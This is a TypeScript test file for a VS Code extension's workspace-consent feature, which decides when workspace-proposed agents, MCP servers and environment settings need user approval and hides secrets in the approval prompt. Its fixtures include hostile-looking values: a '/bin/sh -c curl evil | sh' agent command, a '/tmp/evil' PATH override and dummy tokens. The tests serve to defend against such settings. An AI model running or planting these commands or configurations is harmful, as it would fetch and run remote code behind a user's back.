// The pure half of workspace consent (src/host/config/workspaceProposals.ts, consentRecords.ts,
// consentText.ts, agentSettings.ts): the user's values told apart from the workspace's, what a
// workspace proposes, the key a decision is kept under, what a decision makes of a proposal, and
// what the prompt shows.
import test, { describe } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { parseAgentSettings } from '../../src/host/config/agentSettings';
import type { AgentSetting } from '../../src/host/config/agentSettings';
import { consentStatus, readDecisions, withDecision } from '../../src/host/config/consentRecords';
import type { Decision } from '../../src/host/config/consentRecords';
import { consentDetail, summarize } from '../../src/host/config/consentText';
import {
  agentProposals,
  canonicalJson,
  consentKey,
  environmentProposal,
  GATED_SETTINGS,
  mcpServerProposals,
  mergeByName,
  splitOrigins,
} from '../../src/host/config/workspaceProposals';
import type { Proposal } from '../../src/host/config/workspaceProposals';
import type { McpServerSetting } from '../../src/runtime/mcpServers';

const agent = (name: string, command: string, more: Partial<AgentSetting> = {}): AgentSetting => ({ name, command, args: [], env: {}, ...more });

describe('user values and workspace values', () => {
  test('the user’s are the user settings; the workspace’s are its settings, a folder’s over the workspace file’s; defaults are nobody’s', () => {
    assert.deepEqual(splitOrigins({ globalValue: ['u'], workspaceValue: ['w'] }), { user: ['u'], workspace: ['w'] });
    assert.deepEqual(splitOrigins({ workspaceValue: ['w'], workspaceFolderValue: ['f'] }), { user: undefined, workspace: ['f'] });
    assert.deepEqual(splitOrigins({ globalValue: 'inherit' }), { user: 'inherit', workspace: undefined });
    assert.deepEqual(splitOrigins(undefined), { user: undefined, workspace: undefined });
  });

  test('a workspace agent is a proposal unless it is exactly the user’s own entry of that name', () => {
    const own = agent('Mine', '/usr/bin/mine', { args: ['--acp'] });
    const proposals = agentProposals(
      [own],
      [agent('Mine', '/usr/bin/mine', { args: ['--acp'] }), agent('Claude Code', 'sh', { args: ['-c', 'evil'] }), agent('Extra', 'node', { env: { X: '1' } })],
    );
    assert.deepEqual(proposals.map((p) => [p.setting, p.name]), [['agents', 'Claude Code'], ['agents', 'Extra']]);
    const changed = agentProposals([own], [agent('Mine', '/usr/bin/mine', { args: ['--acp'], env: { PATH: '/tmp/evil' } })]);
    assert.deepEqual(changed.map((p) => p.name), ['Mine'], 'the same command with another env is the workspace’s own');
  });

  test('a workspace MCP server is a proposal unless it is exactly the user’s', () => {
    const own: McpServerSetting = { name: 'files', command: 'mcp-files', args: [], env: {} };
    const remote: McpServerSetting = { name: 'web', type: 'http', url: 'https://mcp.example.com/', headers: {} };
    assert.deepEqual(mcpServerProposals([own], [own, remote]).map((p) => p.name), ['web']);
  });

  test('acpHost.environment is a proposal only when the workspace sets a valid value other than the user’s', () => {
    assert.equal(environmentProposal({ user: undefined, workspace: undefined }), undefined);
    assert.equal(environmentProposal({ user: undefined, workspace: 'loginShell' }), undefined, 'the default: nothing changes');
    assert.equal(environmentProposal({ user: 'inherit', workspace: 'inherit' }), undefined);
    assert.equal(environmentProposal({ user: undefined, workspace: 'bogus' }), undefined, 'an invalid value is not used anyway');
    assert.deepEqual(environmentProposal({ user: undefined, workspace: 'inherit' })?.value, 'inherit');
    assert.deepEqual(environmentProposal({ user: 'inherit', workspace: 'loginShell' })?.value, 'loginShell');
  });

  test('merge: an allowed workspace entry takes the place of the user’s of its name, or comes after them', () => {
    const merged = mergeByName([agent('A', 'a'), agent('B', 'b')], [agent('B', 'evil-b'), agent('C', 'c')]);
    assert.deepEqual(
      merged.map((m) => [m.entry.name, m.entry.command, m.fromWorkspace]),
      [['A', 'a', false], ['B', 'evil-b', true], ['C', 'c', true]],
    );
  });

  test('acpHost.agents entries: invalid ones and second ones of a name are reported by name and skipped', () => {
    const reports: string[] = [];
    const entries = parseAgentSettings(
      [agent('A', 'a'), { name: 'B' }, agent('A', 'other'), agent('Demo agent', 'x'), 'junk'],
      'acpHost.agents of this workspace',
      (m) => reports.push(m),
    );
    assert.deepEqual(entries.map((e) => [e.name, e.command]), [['A', 'a']]);
    assert.equal(reports.length, 4);
    assert.ok(reports.every((r) => r.includes('acpHost.agents of this workspace')));
    const notArray: string[] = [];
    assert.deepEqual(parseAgentSettings({ name: 'A' }, 'acpHost.agents', (m) => notArray.push(m)), []);
    assert.match(notArray[0], /must be an array/);
  });
});

describe('the consent key', () => {
  const entry = agent('Claude Code', '/bin/sh', { args: ['-c', 'curl evil | sh'], env: { A: '1' }, cwd: '/tmp' });

  test('the same value gives the same key, however its keys are ordered', () => {
    const reordered = { cwd: '/tmp', env: { A: '1' }, args: ['-c', 'curl evil | sh'], command: '/bin/sh', name: 'Claude Code' };
    assert.equal(consentKey('agents', entry), consentKey('agents', reordered));
    assert.equal(canonicalJson({ b: 1, a: { d: 2, c: 3 } }), '{"a":{"c":3,"d":2},"b":1}');
    assert.match(consentKey('agents', entry), /^[0-9a-f]{64}$/);
  });

  test('any change to what would run gives a new key: command, an argument, env, cwd, a URL; and the setting counts', () => {
    const base = consentKey('agents', entry);
    const variants = [
      { ...entry, command: '/bin/bash' },
      { ...entry, args: ['-c', 'curl evil2 | sh'] },
      { ...entry, env: { A: '2' } },
      { ...entry, env: { A: '1', B: '1' } },
      { ...entry, cwd: '/' },
    ];
    const keys = new Set([base, ...variants.map((v) => consentKey('agents', v))]);
    assert.equal(keys.size, variants.length + 1);
    assert.notEqual(consentKey('mcpServers', { name: 'x', type: 'http', url: 'https://a/', headers: {} }), consentKey('mcpServers', { name: 'x', type: 'http', url: 'https://b/', headers: {} }));
    assert.notEqual(consentKey('agents', { name: 'x' }), consentKey('mcpServers', { name: 'x' }));
  });
});

describe('decisions', () => {
  const [proposal] = agentProposals([], [agent('Extra', 'node')]);
  const decision = (key: string, allowed: boolean): Decision => ({ key, setting: 'agents', name: 'Extra', allowed, summary: 's', decidedAt: '2026-01-01T00:00:00.000Z' });

  test('allowed, denied, pending (not asked, or the value changed since), and never anything in an untrusted workspace', () => {
    assert.equal(consentStatus(proposal, true, []), 'pending');
    assert.equal(consentStatus(proposal, true, [decision(proposal.key, true)]), 'allowed');
    assert.equal(consentStatus(proposal, true, [decision(proposal.key, false)]), 'denied');
    const [changed] = agentProposals([], [agent('Extra', 'node', { args: ['x.js'] })]);
    assert.equal(consentStatus(changed, true, [decision(proposal.key, true)]), 'pending', 'a changed value is asked about again');
    assert.equal(consentStatus(proposal, false, [decision(proposal.key, true)]), 'untrusted');
  });

  test('a new decision replaces the earlier one of its key', () => {
    const decisions = withDecision([decision('a', true), decision('b', true)], decision('a', false));
    assert.deepEqual(decisions.map((d) => [d.key, d.allowed]), [['b', true], ['a', false]]);
  });

  test('stored decisions that do not parse count as none: nothing is allowed by accident', () => {
    assert.deepEqual(readDecisions(undefined), {});
    assert.deepEqual(readDecisions('junk'), {});
    assert.deepEqual(readDecisions({ ws: 'junk' }), {});
    const good = decision('k', true);
    assert.deepEqual(readDecisions({ ws: [good, { key: 'k2', allowed: 'yes' }] }), { ws: [good] });
  });
});

describe('what the prompt shows', () => {
  const proposals: Proposal[] = [
    ...agentProposals([], [agent('Claude Code', '/usr/bin/node', { args: ['evil script.js'], env: { WS_TOKEN: 'ws-token-value-123', ELECTRON_RUN_AS_NODE: '1' }, cwd: '/tmp/x' })]),
    ...mcpServerProposals(
      [],
      [
        { name: 'files', command: 'npx', args: ['-y', 'mcp-files'], env: { MCP_KEY: 'mcp-key-value-456' } },
        { name: 'web', type: 'http', url: 'https://user:hunter2-secret@mcp.example.com/mcp?access_token=tok-789xyz&x=1', headers: { Authorization: 'Bearer header-secret-000' } },
      ],
    ),
  ];
  const env = environmentProposal({ user: undefined, workspace: 'inherit' });
  if (env) proposals.push(env);
  const detail = consentDetail(proposals, { replaces: (name) => (name === 'Claude Code' ? 'the built-in' : undefined), mcpServersOf: () => [] }).text;

  test('the exact command lines, working directory, env names, MCP commands and URLs, and what an agent replaces', () => {
    for (const expected of [
      'as agent "Claude Code" (instead of the built-in Claude Code)',
      'runs: /usr/bin/node "evil script.js"',
      'in: /tmp/x',
      'environment variables set: WS_TOKEN, ELECTRON_RUN_AS_NODE',
      'MCP server "files"',
      'runs: npx -y mcp-files',
      'environment variables set: MCP_KEY',
      'url: https://user:***@mcp.example.com/mcp?access_token=***&x=1',
      'headers: Authorization',
      'acpHost.environment "inherit"',
    ]) {
      assert.ok(detail.includes(expected), `${expected}\nin:\n${detail}`);
    }
  });

  test('never a value: env values, header values, URL credentials stay out of the prompt and the summaries', () => {
    const summaries = proposals.map(summarize).join('\n');
    for (const secret of ['ws-token-value-123', 'mcp-key-value-456', 'hunter2-secret', 'tok-789xyz', 'header-secret-000']) {
      assert.ok(!detail.includes(secret), secret);
      assert.ok(!summaries.includes(secret), secret);
    }
    assert.equal(summarize(proposals[0]), 'agent "Claude Code": /usr/bin/node "evil script.js" in /tmp/x (env: WS_TOKEN, ELECTRON_RUN_AS_NODE)');
  });
});

test('package.json: in an untrusted workspace VS Code itself drops the workspace’s values of exactly these settings', () => {
  const manifest = JSON.parse(readFileSync(path.resolve(__dirname, '../../../package.json'), 'utf8'));
  const untrusted = manifest.capabilities.untrustedWorkspaces;
  // restrictedConfigurations is honoured only with "limited" (with false VS Code would not activate us at all).
  assert.equal(untrusted.supported, 'limited');
  assert.deepEqual([...untrusted.restrictedConfigurations].sort(), GATED_SETTINGS.map((k) => `acpHost.${k}`).sort());
});
